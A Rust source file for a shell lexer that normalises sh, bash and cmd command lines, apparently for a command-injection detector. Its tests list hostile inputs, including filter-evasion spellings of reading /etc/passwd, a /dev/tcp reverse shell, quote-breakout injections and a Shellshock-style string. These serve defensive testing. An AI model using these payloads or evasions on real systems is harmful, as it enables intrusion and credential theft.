//! A shell lexer for sh/bash and Windows cmd/PowerShell command lines.
//!
//! It folds what a shell folds before running a command, so the decision
//! sees the command the shell would run:
//! - quoting and escapes: `c''at`, `c"a"t`, `c\at`, cmd's `c^a^t`, `$'\x63at'`;
//! - expansions: `$IFS`/`${IFS}` split words, `$9`, `$@`, unknown `$x` and
//!   `${x}` are empty, `${x:-y}` is `y`, variables assigned earlier in the
//!   value (`a=cat;$a /etc/passwd`) expand to their value, `$((7))` to `7`;
//! - substitutions (`$(...)`, backticks, `<(...)`, `>(...)`) are empty in the
//!   word that holds them and returned separately to be judged as command
//!   lines of their own;
//! - brace expansion: `{cat,/etc/passwd}` and `c{a,oun}t` give several words;
//! - globs are kept with a flag; the decision resolves them against the
//!   command dictionary.
//!
//! Separators (`;`, `|`, `||`, `&&`, `&`, newline, CR), redirections and
//! parentheses are tokens of their own. The lexer never fails: any input
//! gives some tokens, in time linear in its length (times the bounded
//! substitution nesting).

use std::ops::Range;

/// Longest word kept, in folded bytes; the rest of a longer word is dropped
/// (commands and the paths that matter are short).
const MAX_WORD: usize = 512;
/// Words produced by one brace expansion, at most.
const MAX_BRACE_WORDS: usize = 16;
/// Variables remembered per command line.
const MAX_VARS: usize = 16;

/// Tokens one lexing can produce, at most: every token holds at least one
/// byte of the input or of an expansion, and expansions add at most the
/// input's length plus one word (see `Lexer::budget`).
#[cfg(any(test, feature = "fuzzing"))]
pub(crate) fn max_tokens(len: usize) -> usize {
    2 * len + MAX_WORD + 2
}

/// A command separator.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Sep {
    /// `;` or `;;`
    Semi,
    /// `&&`
    And,
    /// `||`
    Or,
    /// `|` or `|&`
    Pipe,
    /// `&` (background, or cmd's sequence)
    Amp,
    /// newline or carriage return
    Newline,
}

/// A word after quote removal and expansion.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Word {
    /// The folded bytes.
    pub text: Vec<u8>,
    /// Where the word lies in the value.
    pub span: Range<usize>,
    /// Quotes, escapes or expansions were folded (an evasion when the
    /// result is a command).
    pub folded: bool,
    /// Holds unquoted glob characters (`*`, `?`, `[`).
    pub glob: bool,
}

/// A token.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Tok {
    Word(Word),
    Sep(Sep, usize),
    /// A redirection operator (`>`, `>>`, `<`, `<<<`, `>&`, `2>&1`...); the
    /// `bool` says whether it also names its target fd (`>&1`).
    Redir(usize),
    LParen(usize),
    RParen(usize),
    LBrace(usize),
    RBrace(usize),
}

/// Where a substitution's inner text lies and what opened it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Subst {
    pub range: Range<usize>,
    pub backtick: bool,
    /// Opened by a run of two or more backticks that a run as long closes:
    /// Markdown's or reStructuredText's inline code, or a fenced block.
    pub code_span: bool,
}

/// The tokens of a value, and the substitutions found inside it.
#[derive(Debug, Default)]
pub(crate) struct Lexed {
    pub toks: Vec<Tok>,
    pub substs: Vec<Subst>,
}

/// Tokenizes `value[range]`. `in_quote` starts the lexer inside a string the
/// application opened (`'` or `"`), the context an attacker breaks out of.
///
/// With `plus_space`, `+` separates words too: the value as an application
/// that decodes `+` once more would pass it on.
pub(crate) fn lex(
    value: &[u8],
    range: Range<usize>,
    in_quote: Option<u8>,
    plus_space: bool,
) -> Lexed {
    let mut lx = Lexer {
        plus_space,
        v: value,
        end: range.end.min(value.len()),
        i: range.start.min(value.len()),
        out: Lexed::default(),
        vars: Vec::new(),
        cmd_pos: true,
        budget: range.len() + MAX_WORD,
    };
    lx.run(in_quote);
    lx.out
}

struct Lexer<'a> {
    plus_space: bool,
    v: &'a [u8],
    end: usize,
    i: usize,
    out: Lexed,
    vars: Vec<(Vec<u8>, Vec<u8>)>,
    /// The next word is in command position (assignments are recorded).
    cmd_pos: bool,
    /// Bytes variable expansions may still add. Without a bound,
    /// `a="x x ...";$a $a $a...` grows quadratically: each reference
    /// (two bytes) would copy and split a whole word.
    budget: usize,
}

/// A word being built.
struct Building {
    text: Vec<u8>,
    start: usize,
    folded: bool,
    glob: bool,
    /// An unquoted `{` and `,` were seen: try brace expansion.
    brace: bool,
    /// Bytes of `text` that came from quotes (no brace expansion there).
    any: bool,
}

impl Building {
    fn push(&mut self, b: u8) {
        if self.text.len() < MAX_WORD {
            self.text.push(b);
        }
        self.any = true;
    }
    fn extend(&mut self, s: &[u8]) {
        for &b in s {
            self.push(b);
        }
    }
}

fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0b | 0x0c)
}

fn is_name_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_'
}

fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Environment variables whose value is a known command.
fn env_value(name: &[u8]) -> Option<&'static [u8]> {
    match name {
        b"SHELL" => Some(b"/bin/sh"),
        b"BASH" => Some(b"/bin/bash"),
        b"HOME" => Some(b"/root"),
        b"PWD" | b"OLDPWD" => Some(b"/"),
        b"ComSpec" | b"COMSPEC" => Some(b"cmd.exe"),
        _ => None,
    }
}

impl Lexer<'_> {
    fn peek(&self, k: usize) -> Option<u8> {
        let j = self.i + k;
        if j < self.end {
            Some(self.v[j])
        } else {
            None
        }
    }

    fn run(&mut self, in_quote: Option<u8>) {
        let mut first: Option<Building> = None;
        if let Some(q) = in_quote {
            // The text up to the closing quote belongs to the application's
            // string; what follows continues that word.
            let mut w = self.new_word();
            w.folded = true;
            if q == b'\'' {
                self.single_quoted(&mut w);
            } else {
                self.double_quoted(&mut w);
            }
            // A quote closed at once leaves the command position intact.
            if !w.text.is_empty() {
                self.cmd_pos = false;
            }
            first = Some(w);
        }
        if let Some(w) = first {
            self.word(Some(w));
        }
        while self.i < self.end {
            let b = self.v[self.i];
            if is_space(b) || (b == b'+' && self.plus_space) {
                self.i += 1;
                continue;
            }
            let at = self.i;
            match b {
                b'\n' | b'\r' => {
                    self.i += 1;
                    self.sep(Sep::Newline, at);
                }
                b';' => {
                    self.i += 1;
                    if self.peek(0) == Some(b';') {
                        self.i += 1;
                    }
                    self.sep(Sep::Semi, at);
                }
                b'&' => match self.peek(1) {
                    Some(b'&') => {
                        self.i += 2;
                        self.sep(Sep::And, at);
                    }
                    Some(b'>') => {
                        self.i += 2;
                        if self.peek(0) == Some(b'>') {
                            self.i += 1;
                        }
                        self.out.toks.push(Tok::Redir(at));
                    }
                    _ => {
                        self.i += 1;
                        self.sep(Sep::Amp, at);
                    }
                },
                b'|' => match self.peek(1) {
                    Some(b'|') => {
                        self.i += 2;
                        self.sep(Sep::Or, at);
                    }
                    Some(b'&') => {
                        self.i += 2;
                        self.sep(Sep::Pipe, at);
                    }
                    _ => {
                        self.i += 1;
                        self.sep(Sep::Pipe, at);
                    }
                },
                b'<' | b'>' if self.peek(1) == Some(b'(') => {
                    // Process substitution.
                    self.i += 2;
                    let inner = self.i;
                    let close = self.matching_paren(inner);
                    self.out.substs.push(Subst {
                        range: inner..close,
                        backtick: false,
                        code_span: false,
                    });
                    self.i = (close + 1).min(self.end);
                    self.cmd_pos = false;
                }
                b'<' | b'>' => self.redir(),
                b'(' => {
                    self.i += 1;
                    self.out.toks.push(Tok::LParen(at));
                    self.cmd_pos = true;
                }
                b')' => {
                    self.i += 1;
                    self.out.toks.push(Tok::RParen(at));
                    self.cmd_pos = false;
                }
                b'{' if self.peek(1).is_none_or(|c| is_space(c) || c == b'\n') => {
                    self.i += 1;
                    self.out.toks.push(Tok::LBrace(at));
                    self.cmd_pos = true;
                }
                b'}' if self.at_word_boundary_after(1) => {
                    self.i += 1;
                    self.out.toks.push(Tok::RBrace(at));
                }
                b'#' => {
                    // A comment runs to the end of the line.
                    while self.i < self.end && !matches!(self.v[self.i], b'\n' | b'\r') {
                        self.i += 1;
                    }
                }
                _ => self.word(None),
            }
        }
    }

    fn at_word_boundary_after(&self, k: usize) -> bool {
        self.peek(k)
            .is_none_or(|c| is_space(c) || matches!(c, b';' | b'&' | b'|' | b'\n' | b'\r' | b')'))
    }

    fn sep(&mut self, s: Sep, at: usize) {
        self.out.toks.push(Tok::Sep(s, at));
        self.cmd_pos = true;
    }

    fn redir(&mut self) {
        let at = self.i;
        let b = self.v[self.i];
        self.i += 1;
        while let Some(c) = self.peek(0) {
            if c == b || c == b'&' || (b == b'<' && c == b'>') || (b == b'>' && c == b'|') {
                self.i += 1;
                if c == b'&' {
                    // `>&1`, `<&0`, `>&-`: the fd is part of the operator.
                    while let Some(d) = self.peek(0) {
                        if d.is_ascii_digit() || d == b'-' {
                            self.i += 1;
                        } else {
                            break;
                        }
                    }
                    break;
                }
            } else {
                break;
            }
            if self.i - at >= 3 {
                break;
            }
        }
        self.out.toks.push(Tok::Redir(at));
    }

    fn new_word(&self) -> Building {
        Building {
            text: Vec::new(),
            start: self.i,
            folded: false,
            glob: false,
            brace: false,
            any: false,
        }
    }

    /// Index of the `)` that closes a `(` whose content starts at `from`
    /// (or the end), skipping quotes and nested parentheses.
    fn matching_paren(&self, from: usize) -> usize {
        self.matching(from, b'(', b')', true)
    }

    /// Index of the `}` that closes a `{` whose content starts at `from`
    /// (or the end), skipping nested braces.
    fn matching_brace(&self, from: usize) -> usize {
        self.matching(from, b'{', b'}', false)
    }

    /// Index of the `close` that balances an already opened `open`, with
    /// backslash escapes skipped (and single-quoted text when `quotes`).
    fn matching(&self, from: usize, open: u8, close: u8, quotes: bool) -> usize {
        let mut depth = 0usize;
        let mut j = from;
        while j < self.end {
            let b = self.v[j];
            if b == b'\\' {
                j += 1;
            } else if quotes && b == b'\'' {
                j += 1;
                while j < self.end && self.v[j] != b'\'' {
                    j += 1;
                }
            } else if b == open {
                depth += 1;
            } else if b == close {
                if depth == 0 {
                    return j;
                }
                depth -= 1;
            }
            j += 1;
        }
        self.end
    }

    fn backtick_end(&self, from: usize) -> usize {
        let mut j = from;
        while j < self.end {
            match self.v[j] {
                b'\\' => j += 1,
                b'`' => return j,
                _ => {}
            }
            j += 1;
        }
        self.end
    }

    /// Where a run of exactly `run` backticks starts at or after `from`.
    fn code_span_end(&self, from: usize, run: usize) -> Option<usize> {
        let mut j = from;
        while j < self.end {
            if self.v[j] != b'`' {
                j += 1;
                continue;
            }
            let n = self.v[j..self.end]
                .iter()
                .take_while(|&&c| c == b'`')
                .count();
            if n == run {
                return Some(j);
            }
            j += n;
        }
        None
    }

    fn single_quoted(&mut self, w: &mut Building) {
        while self.i < self.end {
            let c = self.v[self.i];
            self.i += 1;
            if c == b'\'' {
                return;
            }
            w.push(c);
        }
    }

    fn double_quoted(&mut self, w: &mut Building) {
        while self.i < self.end {
            let c = self.v[self.i];
            match c {
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'\\' => {
                    self.i += 1;
                    match self.peek(0) {
                        Some(n @ (b'"' | b'\\' | b'$' | b'`')) => {
                            w.push(n);
                            self.i += 1;
                        }
                        Some(b'\n') => self.i += 1,
                        _ => w.push(b'\\'),
                    }
                }
                b'$' => {
                    if self.dollar(w) {
                        // `"$IFS"` is literal whitespace inside quotes.
                        w.push(b' ');
                    }
                }
                b'`' => self.backtick(w),
                _ => {
                    w.push(c);
                    self.i += 1;
                }
            }
        }
    }

    fn backtick(&mut self, w: &mut Building) {
        // ``` ``x`` ``` runs `x` between two empty substitutions, a spelling
        // no attack needs at the start of a word; there it is inline code
        // (```` ``git clone`` ````) or a fence (```` ```sh ````), whose info
        // string names a language, not a command.
        let run = self.v[self.i..self.end]
            .iter()
            .take_while(|&&c| c == b'`')
            .count();
        let prose_before =
            self.i == 0 || matches!(self.v[self.i - 1], b' ' | b'\t' | b'\n' | b'\r' | b'(');
        if run >= 2 && w.text.is_empty() && !w.any && prose_before {
            if let Some(close) = self.code_span_end(self.i + run, run) {
                let mut inner = self.i + run;
                if run >= 3 {
                    if let Some(nl) = self.v[inner..close].iter().position(|&c| c == b'\n') {
                        inner += nl + 1;
                    }
                }
                self.out.substs.push(Subst {
                    range: inner..close,
                    backtick: true,
                    code_span: true,
                });
                self.i = close + run;
                return;
            }
        }
        let inner = self.i + 1;
        let close = self.backtick_end(inner);
        self.out.substs.push(Subst {
            range: inner..close,
            backtick: true,
            code_span: false,
        });
        self.i = (close + 1).min(self.end);
        w.folded = true;
    }

    /// Handles a `$` at `self.i`. Returns true when the expansion is a word
    /// split (`$IFS`).
    fn dollar(&mut self, w: &mut Building) -> bool {
        let at = self.i;
        self.i += 1;
        let Some(n) = self.peek(0) else {
            w.push(b'$');
            return false;
        };
        match n {
            b'(' if self.peek(1) == Some(b'(') => {
                // Arithmetic: a plain number is kept, anything else is empty.
                let inner = self.i + 2;
                let close = self.matching_paren(inner);
                let body = &self.v[inner..close.min(self.end)];
                let body = body.strip_suffix(b")").unwrap_or(body);
                let t = trim(body);
                if !t.is_empty() && t.iter().all(u8::is_ascii_digit) {
                    w.extend(t);
                } else if body.contains(&b'$') || body.contains(&b'`') {
                    self.out.substs.push(Subst {
                        range: inner..close,
                        backtick: false,
                        code_span: false,
                    });
                }
                self.i = (close + 1).min(self.end);
                if self.peek(0) == Some(b')') {
                    self.i += 1;
                }
                w.folded = true;
                false
            }
            b'(' => {
                let inner = self.i + 1;
                let close = self.matching_paren(inner);
                self.out.substs.push(Subst {
                    range: inner..close,
                    backtick: false,
                    code_span: false,
                });
                self.i = (close + 1).min(self.end);
                w.folded = true;
                false
            }
            b'[' => {
                // Legacy arithmetic `$[...]`.
                let mut j = self.i + 1;
                while j < self.end && self.v[j] != b']' {
                    j += 1;
                }
                self.i = (j + 1).min(self.end);
                w.folded = true;
                false
            }
            b'{' => {
                let inner = self.i + 1;
                let close = self.matching_brace(inner);
                let body = &self.v[inner..close];
                self.i = (close + 1).min(self.end);
                w.folded = true;
                if body == b"IFS" {
                    return true;
                }
                if body.contains(&b'`') || body.windows(2).any(|p| p == b"$(") {
                    self.out.substs.push(Subst {
                        range: inner..close,
                        backtick: false,
                        code_span: false,
                    });
                    return false;
                }
                // `${x:-y}`, `${x-y}`, `${x:=y}`: the default, when x is unset.
                let name_len = body.iter().take_while(|&&c| is_name(c)).count();
                let name = &body[..name_len];
                if let Some(v) = self.lookup(name) {
                    w.extend(&v);
                    return false;
                }
                let rest = &body[name_len..];
                let rest = rest.strip_prefix(b":").unwrap_or(rest);
                if let Some(d) = rest.strip_prefix(b"-").or_else(|| rest.strip_prefix(b"=")) {
                    w.extend(d);
                }
                false
            }
            b'\'' => {
                // ANSI-C quoting.
                self.i += 1;
                self.ansi_c(w);
                w.folded = true;
                false
            }
            b'"' => {
                self.i += 1;
                self.double_quoted(w);
                w.folded = true;
                false
            }
            c if is_name_start(c) => {
                let s = self.i;
                while self.i < self.end && is_name(self.v[self.i]) {
                    self.i += 1;
                }
                let name = &self.v[s..self.i];
                w.folded = true;
                if name == b"IFS" {
                    return true;
                }
                if let Some(v) = self.lookup(name) {
                    if v.iter().any(|c| matches!(c, b'*' | b'?' | b'[')) {
                        w.glob = true;
                    }
                    w.extend(&v);
                }
                false
            }
            b'@' | b'*' | b'#' | b'?' | b'-' | b'$' | b'!' | b'_' | b'0'..=b'9' => {
                self.i += 1;
                w.folded = true;
                false
            }
            _ => {
                let _ = at;
                w.push(b'$');
                false
            }
        }
    }

    /// The value of variable `name`, charged to the expansion budget;
    /// past the budget, variables read as unset.
    fn lookup(&mut self, name: &[u8]) -> Option<Vec<u8>> {
        let v = match self.vars.iter().rev().find(|(n, _)| n == name) {
            Some((_, v)) => v.clone(),
            None => env_value(name)?.to_vec(),
        };
        self.budget = self.budget.checked_sub(v.len())?;
        Some(v)
    }

    fn ansi_c(&mut self, w: &mut Building) {
        while self.i < self.end {
            let c = self.v[self.i];
            self.i += 1;
            match c {
                b'\'' => return,
                b'\\' => {
                    let Some(e) = self.peek(0) else { return };
                    self.i += 1;
                    match e {
                        b'x' => {
                            let mut val = 0u8;
                            let mut k = 0;
                            while k < 2 {
                                match self.peek(0).and_then(hex) {
                                    Some(h) => {
                                        val = val.wrapping_mul(16).wrapping_add(h);
                                        self.i += 1;
                                        k += 1;
                                    }
                                    None => break,
                                }
                            }
                            w.push(val);
                        }
                        b'0'..=b'7' => {
                            let mut val = e - b'0';
                            let mut k = 1;
                            while k < 3 {
                                match self.peek(0) {
                                    Some(d @ b'0'..=b'7') => {
                                        val = val.wrapping_mul(8).wrapping_add(d - b'0');
                                        self.i += 1;
                                        k += 1;
                                    }
                                    _ => break,
                                }
                            }
                            w.push(val);
                        }
                        b'n' => w.push(b'\n'),
                        b't' => w.push(b'\t'),
                        other => w.push(other),
                    }
                }
                _ => w.push(c),
            }
        }
    }

    /// Lexes one word starting at `self.i` (or continues `start`).
    fn word(&mut self, start: Option<Building>) {
        let mut w = start.unwrap_or_else(|| self.new_word());
        let mut split = false;
        while self.i < self.end {
            let c = self.v[self.i];
            match c {
                b' ' | b'\t' | 0x0b | 0x0c | b'\n' | b'\r' | b';' | b'&' | b'|' | b'(' | b')' => {
                    break
                }
                b'+' if self.plus_space => break,
                b'<' | b'>' if self.peek(1) == Some(b'(') && !w.text.is_empty() => {
                    // A process substitution inside a word (`pi<()ng`).
                    let inner = self.i + 2;
                    let close = self.matching_paren(inner);
                    self.out.substs.push(Subst {
                        range: inner..close,
                        backtick: false,
                        code_span: false,
                    });
                    self.i = (close + 1).min(self.end);
                    w.folded = true;
                }
                b'<' | b'>' => {
                    // `2>&1`: digits before a redirection are its fd.
                    if !w.text.is_empty()
                        && !w.folded
                        && w.text.iter().all(u8::is_ascii_digit)
                        && self.v[w.start..self.i].iter().all(u8::is_ascii_digit)
                    {
                        w.text.clear();
                        w.any = false;
                    }
                    break;
                }
                b'\'' => {
                    self.i += 1;
                    w.folded = true;
                    w.any = true;
                    self.single_quoted(&mut w);
                }
                b'"' => {
                    self.i += 1;
                    w.folded = true;
                    w.any = true;
                    self.double_quoted(&mut w);
                }
                b'\\' => {
                    self.i += 1;
                    match self.peek(0) {
                        Some(b'\n') => self.i += 1,
                        Some(n) => {
                            // A backslash before a letter folds (`c\at`); in a
                            // Windows path it separates, so keep it there.
                            if n.is_ascii_alphanumeric() && windows_path(&w.text) {
                                w.push(b'\\');
                            } else {
                                w.folded = true;
                            }
                            w.push(n);
                            self.i += 1;
                        }
                        None => w.push(b'\\'),
                    }
                }
                b'^' => {
                    // cmd's escape.
                    self.i += 1;
                    if let Some(n) = self.peek(0) {
                        if !matches!(n, b'\n' | b'\r') {
                            w.push(n);
                            self.i += 1;
                        }
                        w.folded = true;
                    }
                }
                b'$' => {
                    if self.dollar(&mut w) {
                        split = true;
                        break;
                    }
                }
                b'`' => self.backtick(&mut w),
                b'*' | b'?' | b'[' => {
                    w.glob = true;
                    w.push(c);
                    self.i += 1;
                }
                b'{' | b'}' | b',' => {
                    if c == b'{' {
                        w.brace = true;
                    }
                    w.push(c);
                    self.i += 1;
                }
                _ => {
                    w.push(c);
                    self.i += 1;
                }
            }
        }
        let end = self.i;
        let _ = split;
        self.finish(w, end);
    }

    fn finish(&mut self, w: Building, end: usize) {
        if w.text.is_empty() {
            if w.any || w.folded {
                // An empty word (`''`, `$u`) holds no command.
            }
            return;
        }
        let span = w.start..end;
        if self.cmd_pos {
            if let Some(eq) = assignment(&w.text) {
                if self.vars.len() < MAX_VARS {
                    self.vars
                        .push((w.text[..eq].to_vec(), w.text[eq + 1..].to_vec()));
                }
                self.out.toks.push(Tok::Word(Word {
                    text: w.text,
                    span,
                    folded: w.folded,
                    glob: w.glob,
                }));
                return;
            }
        }
        self.cmd_pos = false;
        // Unquoted expansions are split on whitespace (`c4=\ ;...;$c1$c2$c3$c4`).
        let raw = &self.v[span.clone()];
        if w.folded
            && w.text.contains(&b' ')
            && raw.contains(&b'$')
            && !raw.iter().any(|c| matches!(c, b'\'' | b'"' | b'\\'))
        {
            for t in w.text.split(|&c| c == b' ').filter(|t| !t.is_empty()) {
                self.out.toks.push(Tok::Word(Word {
                    text: t.to_vec(),
                    span: span.clone(),
                    folded: true,
                    glob: w.glob,
                }));
            }
            return;
        }
        if w.brace {
            if let Some(words) = brace_expand(&w.text) {
                for t in words {
                    if !t.is_empty() {
                        let glob = t.iter().any(|&c| matches!(c, b'*' | b'?' | b'['));
                        self.out.toks.push(Tok::Word(Word {
                            text: t,
                            span: span.clone(),
                            folded: true,
                            glob,
                        }));
                    }
                }
                return;
            }
        }
        self.out.toks.push(Tok::Word(Word {
            text: w.text,
            span,
            folded: w.folded,
            glob: w.glob,
        }));
    }
}

fn hex(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn trim(s: &[u8]) -> &[u8] {
    let a = s.iter().position(|&c| !is_space(c)).unwrap_or(s.len());
    let b = s.iter().rposition(|&c| !is_space(c)).map_or(a, |p| p + 1);
    &s[a..b.max(a)]
}

/// `X:\` or `\\`: a Windows path, where backslashes separate.
fn windows_path(prefix: &[u8]) -> bool {
    (prefix.len() >= 2 && prefix[0].is_ascii_alphabetic() && prefix[1] == b':')
        || prefix.starts_with(b"%")
        || prefix.contains(&b'\\')
}

/// `NAME=value`: the index of `=`.
fn assignment(t: &[u8]) -> Option<usize> {
    let eq = t.iter().position(|&c| c == b'=')?;
    let name = &t[..eq];
    (!name.is_empty() && is_name_start(name[0]) && name.iter().all(|&c| is_name(c))).then_some(eq)
}

/// Expands the first top-level `{a,b,...}` group holding a comma (and, once,
/// a second one in the results).
fn brace_expand(t: &[u8]) -> Option<Vec<Vec<u8>>> {
    let first = expand_once(t)?;
    let mut out = Vec::new();
    for w in first {
        match expand_once(&w) {
            Some(more) => out.extend(more),
            None => out.push(w),
        }
        if out.len() >= MAX_BRACE_WORDS {
            out.truncate(MAX_BRACE_WORDS);
            break;
        }
    }
    Some(out)
}

fn expand_once(t: &[u8]) -> Option<Vec<Vec<u8>>> {
    let open = t.iter().position(|&c| c == b'{')?;
    let mut depth = 0usize;
    let mut commas = Vec::new();
    let mut close = None;
    for (k, &c) in t.iter().enumerate().skip(open + 1) {
        match c {
            b'{' => depth += 1,
            b'}' if depth == 0 => {
                close = Some(k);
                break;
            }
            b'}' => depth -= 1,
            b',' if depth == 0 => commas.push(k),
            _ => {}
        }
    }
    let close = close?;
    if commas.is_empty() {
        return None;
    }
    let (prefix, suffix) = (&t[..open], &t[close + 1..]);
    let mut out = Vec::new();
    let mut from = open + 1;
    for &c in commas.iter().chain(std::iter::once(&close)) {
        let mut w = prefix.to_vec();
        w.extend_from_slice(&t[from..c]);
        w.extend_from_slice(suffix);
        out.push(w);
        from = c + 1;
        if out.len() >= MAX_BRACE_WORDS {
            break;
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Renders tokens as a compact string: words as-is, separators and
    /// operators in angle brackets.
    fn render(v: &str) -> String {
        render_in(v, None)
    }

    fn render_in(v: &str, q: Option<u8>) -> String {
        let l = lex(v.as_bytes(), 0..v.len(), q, false);
        let mut out = Vec::new();
        for t in &l.toks {
            out.push(match t {
                Tok::Word(w) => String::from_utf8_lossy(&w.text).into_owned(),
                Tok::Sep(s, _) => format!("<{s:?}>"),
                Tok::Redir(_) => "<redir>".into(),
                Tok::LParen(_) => "<(>".into(),
                Tok::RParen(_) => "<)>".into(),
                Tok::LBrace(_) => "<{>".into(),
                Tok::RBrace(_) => "<}>".into(),
            });
        }
        for s in &l.substs {
            out.push(format!("[{}]", &v[s.range.clone()]));
        }
        out.join(" ")
    }

    #[test]
    fn golden_tokens() {
        let cases: &[(&str, &str)] = &[
            ("cat /etc/passwd", "cat /etc/passwd"),
            ("c''at /etc/pa\"ss\"wd", "cat /etc/passwd"),
            (r"c\at /etc/p\asswd", "cat /etc/passwd"),
            ("c^a^t file", "cat file"),
            ("cat$IFS/etc/passwd", "cat /etc/passwd"),
            ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
            ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
            ("c$@at /et$*c/pas$?swd", "cat /etc/passwd"),
            ("cat /etc/${x:-pass}wd", "cat /etc/passwd"),
            (
                "a;b&&c||d|e&f\ng",
                "a <Semi> b <And> c <Or> d <Pipe> e <Amp> f <Newline> g",
            ),
            ("{cat,/etc/passwd}", "cat /etc/passwd"),
            ("c{a,oun}t", "cat count"),
            ("{,ifconfig}", "ifconfig"),
            ("/???/c?t /et*/*wd", "/???/c?t /et*/*wd"),
            ("echo $(id)", "echo [id]"),
            ("echo `id`x", "echo x [id]"),
            ("pi$()ng 127.0.0.1", "ping 127.0.0.1 []"),
            ("cat <(ls)", "cat [ls]"),
            (
                "sh -i >& /dev/tcp/1.2.3.4/80 0>&1",
                "sh -i <redir> /dev/tcp/1.2.3.4/80 <redir>",
            ),
            ("ls 2>&1", "ls <redir>"),
            (
                "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
                "a=/etc <And> b=/passwd <And> c=cat <And> cat /etc/passwd",
            ),
            ("$'\\x63at' x", "cat x"),
            ("$((7))z", "7z"),
            ("$SHELL -c id", "/bin/sh -c id"),
            ("() { :; }; echo", "<(> <)> <{> : <Semi> <}> <Semi> echo"),
            ("echo hi # rm -rf /", "echo hi"),
            (
                r"C:\Windows\system32\cmd.exe /c dir",
                r"C:\Windows\system32\cmd.exe /c dir",
            ),
            ("", ""),
            ("pi<()ng x", "ping x []"),
            (
                "c4=\\ ;c1=cat;$c1$c4/etc",
                "c4=  <Semi> c1=cat <Semi> cat /etc",
            ),
            (
                "garb=adduse[r];$garb x",
                "garb=adduse[r] <Semi> adduse[r] x",
            ),
        ];
        for (input, want) in cases {
            assert_eq!(render(input), *want, "input {input:?}");
        }
    }

    #[test]
    fn quote_contexts() {
        assert_eq!(render_in("x';id;'", Some(b'\'')), "x <Semi> id <Semi>");
        assert_eq!(render_in("\"|whoami", Some(b'"')), "<Pipe> whoami");
    }

    #[test]
    fn never_panics_on_odd_input() {
        for v in [
            "$", "${", "$(", "`", "$'\\x", "\\", "^", "{,", "$((", "2>", "<(", "'", "\"",
        ] {
            let _ = lex(v.as_bytes(), 0..v.len(), None, false);
            let _ = lex(v.as_bytes(), 0..v.len(), Some(b'\''), true);
        }
    }

    #[test]
    fn expansions_are_bounded_by_the_input() {
        // Each two-byte `$a` would otherwise add 100 words.
        let v = format!("a=\"{}\";{}", "x ".repeat(100), "$a ".repeat(1000));
        let out = lex(v.as_bytes(), 0..v.len(), None, false);
        assert!(out.toks.len() <= max_tokens(v.len()), "{}", out.toks.len());
        assert!(out.toks.len() > 1000, "early references still expand");
        assert!(render("a=\"cat /etc/passwd\";$a").ends_with(" cat /etc/passwd"));
    }
}
